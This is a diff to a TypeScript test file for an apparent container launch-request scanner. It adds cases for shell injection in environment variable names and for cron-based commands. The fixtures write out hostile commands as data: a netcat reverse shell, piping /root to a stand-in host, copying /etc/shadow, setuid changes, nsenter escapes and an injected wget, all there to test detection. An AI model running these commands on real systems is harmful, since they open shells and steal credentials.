@@ -90,6 +90,12 @@ describe('a request', () => {
   ])('finds shell in the name %j', (name, value) => {
     expect(rules(variable(name, value))).toContain('shell-injection');
   });
+
+  it('finds shell in a name that has no value', () => {
+    const named = (name: string): LaunchRequest => ({ ...empty, environment: [{ name, path: 'Env[0]' }] });
+    expect(rules(named('x;wget http://a.example'))).toContain('shell-injection');
+    expect(examineInputs(named('HOME'), { strictness: 2 }).inputs).toEqual([]);
+  });
 });
 
 describe('a shell where a shell is expected', () => {
@@ -99,6 +105,7 @@ describe('a shell where a shell is expected', () => {
     ['/usr/bin/tini', '--', 'sh', '-ec', 'cd /app && npm run migrate; exec node server.js'],
     ['sh', '-c', 'curl -s http://localhost/health | python3 -c "import json,sys; json.load(sys.stdin)"'],
     ['sh', '-c', 'curl -o /app/config.json http://config/app && exec ./start.sh'],
+    ['sh', '-c', 'echo "0 * * * * /job.sh" | crontab - && crond -f'],
     ['sh', '-c', 'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done; exec app'],
     ['python', '-c', 'print(1)'],
     ['perl', '-E', 'sleep 300'],
@@ -123,6 +130,7 @@ describe('a shell where a shell is expected', () => {
     [['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'], 'encoded-code'],
     [['nc', '-e', '/bin/sh', '192.0.2.1', '4444'], 'shell-injection'],
     [['nsenter', '-t', '1', '-m', 'sh'], 'shell-injection'],
+    [['sh', '-c', 'echo "* * * * * x" | crontab -'], 'shell-injection'],
     [['sh', '-c', 'cp /etc/shadow /srv/a'], 'shell-injection'],
     [['sh', '-c', 'chmod u+s /bin/dash'], 'shell-injection'],
     [['sh', '-c', 'tar c /root | nc a.example 1'], 'shell-injection'],
